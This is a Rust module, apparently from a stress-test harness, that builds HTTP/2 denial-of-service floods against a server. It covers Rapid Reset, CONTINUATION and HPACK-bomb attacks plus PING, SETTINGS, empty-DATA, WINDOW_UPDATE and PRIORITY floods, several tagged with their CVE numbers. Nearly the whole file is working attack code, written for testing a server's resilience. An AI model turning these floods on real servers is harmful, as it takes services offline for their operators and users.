//! Frames that cost the peer nothing.

use crate::{
    ground::Ground,
    raw::{END_HEADERS, JOIN, Peer, field, frame, headers, kept_field, kind, quiet_join},
};

use super::FLOODERS;

/// Frames written at once.
const BATCH: usize = 200;

fn repeated(bytes: Vec<u8>) -> (usize, Vec<u8>) {
    (BATCH, bytes.repeat(BATCH))
}

/// CVE-2023-44487.
pub(super) fn rapid_reset(ground: &Ground) {
    ground.flood(FLOODERS, &[], |peer| {
        let mut bytes = Vec::new();
        for _ in 0..BATCH {
            let (stream, headers) = peer.open(JOIN);
            bytes.extend(headers);
            bytes.extend(frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        (BATCH, bytes)
    });
}

/// CVE-2024-27316 and its like: a field block without an end.
pub(super) fn continuation(ground: &Ground) {
    ground.flood(FLOODERS, &[], |peer| {
        let stream = peer.stream();
        let mut bytes = frame(kind::HEADERS, 0, stream, &headers(JOIN, None));
        let more: Vec<u8> = (0..20).flat_map(|number| field(&format!("x-{number}"), &"v".repeat(40))).collect();
        for _ in 0..BATCH {
            bytes.extend(frame(kind::CONTINUATION, 0, stream, &more));
        }
        (BATCH, bytes)
    });
}

/// A few bytes that stand for many: one large field, named over and over.
pub(super) fn hpack_bomb(ground: &Ground) {
    ground.flood(FLOODERS, &[], |peer| {
        let mut bytes = Vec::new();
        for nth in 0..20 {
            let stream = peer.stream();
            let mut block = if nth == 0 { kept_field("x-bomb", &"b".repeat(3_900)) } else { Vec::new() };
            block.extend(headers(JOIN, None));
            // The newest of the table. Source: RFC 7541, 2.3.3.
            block.extend([0x80 | 62].repeat(4_000));
            bytes.extend(frame(kind::HEADERS, END_HEADERS, stream, &block));
        }
        (20, bytes)
    });
}

/// CVE-2019-9512, answers read.
pub(super) fn ping(ground: &Ground) {
    ground.flood(FLOODERS, &[], |_| repeated(frame(kind::PING, 0, 0, b"12345678")));
}

/// The same, without reading an answer until nothing more can be written.
pub(super) fn deaf_ping(ground: &Ground) {
    ground.flood(FLOODERS, &[], |_| {
        let (units, bytes) = repeated(frame(kind::PING, 0, 0, b"12345678"));
        (units * 50, bytes.repeat(50))
    });
}

/// CVE-2019-9515.
pub(super) fn settings(ground: &Ground) {
    ground.flood(FLOODERS, &[], |_| repeated(frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0x40, 0])));
}

/// The number of the stream that this peer has: opened at the first call.
fn joined(peer: &mut Peer, session: &str) -> Vec<u8> {
    let (stream, headers) = peer.open(JOIN);
    [headers, frame(kind::DATA, 0, stream, &quiet_join(session))].concat()
}

/// CVE-2019-9518.
pub(super) fn empty_data(ground: &Ground) {
    ground.flood(FLOODERS, &[], |peer| {
        let mut bytes = joined(peer, "empty");
        bytes.extend(frame(kind::DATA, 0, 1, &[]).repeat(BATCH));
        (BATCH, bytes)
    });
}

pub(super) fn window_update(ground: &Ground) {
    ground.flood(FLOODERS, &[], |_| repeated(frame(kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())));
}

pub(super) fn priority(ground: &Ground) {
    ground.flood(FLOODERS, &[], |_| repeated(frame(2, 0, 1, &[0, 0, 0, 3, 7])));
}
